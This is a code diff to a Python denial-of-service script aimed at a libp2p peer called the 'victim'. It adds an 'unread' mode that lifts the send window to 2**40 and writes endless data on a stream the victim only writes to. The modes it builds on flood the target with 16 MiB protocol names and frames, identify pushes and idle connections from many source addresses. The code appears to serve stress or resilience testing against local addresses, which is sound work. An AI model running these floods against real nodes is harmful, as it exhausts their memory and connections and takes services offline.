@@ -6,6 +6,7 @@ KIND     idle: handshake, speak gossip, say nothing        half: stop after the 
          valid: say what is let in, every few seconds      push: send identify messages on one stream after another
          names: a protocol's name of 16 MiB on each stream, against the window
          frames: a frame of 16 MiB of which three quarters come
+         unread: data without end, against the window, on the stream on which the victim only writes
 SOURCES  the connections come from 127.0.0.2 and as many addresses after it; 0 = from 127.0.0.1
 """
 
@@ -51,6 +52,12 @@ async def read(stream: Any) -> None:
         pass
 
 
+async def write(stream: Any) -> None:
+    stream.muxed_stream.send_window = 2**40
+    while True:
+        await stream.write(bytes(2**16))
+
+
 async def crowd(address: str, kind: str, source: str) -> None:
     """One key after another, each for as long as it may stay."""
     victim = info_from_p2p_addr(Multiaddr(address))
@@ -58,7 +65,7 @@ async def crowd(address: str, kind: str, source: str) -> None:
         tcp = SourcedTCP(source)
         host = make_host(tcp)
         for protocol in (PROTOCOL_ID_V11, PROTOCOL_ID_V12):
-            host.set_stream_handler(protocol, read)
+            host.set_stream_handler(protocol, write if kind == "unread" else read)
         try:
             async with host.run(listen_addrs=[]):
                 if kind == "half":
@@ -119,7 +126,7 @@ async def valid(host: Any, victim: Any) -> None:
         await trio.sleep(5)
 
 
-KINDS = {"idle": idle, "push": push, "names": names, "frames": frames, "valid": valid}
+KINDS = {"idle": idle, "unread": idle, "push": push, "names": names, "frames": frames, "valid": valid}
 
 
 async def main(address: str, kind: str, keys: int, sources: int) -> None:
